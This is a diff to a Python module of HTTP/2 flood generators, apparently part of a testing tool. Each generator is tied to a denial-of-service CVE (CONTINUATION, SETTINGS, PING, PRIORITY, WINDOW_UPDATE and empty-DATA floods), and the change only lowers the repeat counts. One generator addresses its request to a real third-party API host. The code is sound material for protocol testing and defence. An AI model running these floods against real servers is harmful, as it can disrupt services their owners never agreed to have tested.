@@ -45,7 +45,7 @@ def head(caller: Http2Caller) -> bytes:
 
 def continuations(caller: Http2Caller) -> Iterator[bytes]:
     yield frame(HEADERS, 0, 1, head(caller))  # CVE-2024-27316: its end never comes
-    for _ in range(400):
+    for _ in range(160):
         yield frame(CONTINUATION, 0, 1) * 250
 
 
@@ -56,28 +56,28 @@ def large_continuations(caller: Http2Caller) -> Iterator[bytes]:
 
 
 def settings(_caller: Http2Caller) -> Iterator[bytes]:
-    for _ in range(400):
+    for _ in range(160):
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 250  # CVE-2019-9515
 
 
 def growing_settings(_caller: Http2Caller) -> Iterator[bytes]:
-    for i in range(400):
+    for i in range(160):
         yield b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 100 + i, j)) for j in range(250))
 
 
 def pings(_caller: Http2Caller) -> Iterator[bytes]:
-    for _ in range(400):
+    for _ in range(160):
         yield frame(PING, 0, 0, b"12345678") * 250  # CVE-2019-9512
 
 
 def priorities(_caller: Http2Caller) -> Iterator[bytes]:
-    for i in range(400):
+    for i in range(160):
         # CVE-2019-9513; of streams that are not there yet
         yield b"".join(frame(PRIORITY, 0, 2 * (250 * i + j) + 1, struct.pack(">IB", 0, 9)) for j in range(250))
 
 
 def window_updates(_caller: Http2Caller) -> Iterator[bytes]:
-    for _ in range(400):
+    for _ in range(160):
         yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 250
 
 
@@ -85,7 +85,7 @@ def empty_data(caller: Http2Caller) -> Iterator[bytes]:
     named = [(":method", "POST"), (":scheme", "https"), (":authority", "api.openai.com")]
     post = [*named, (":path", "/v1/chat/completions"), ("content-type", "application/json")]
     yield frame(HEADERS, 4, 1, bytes(caller.h2.encoder.encode(post)))
-    for _ in range(400):
+    for _ in range(160):
         yield frame(DATA, 0, 1) * 250  # CVE-2019-9518
 
 
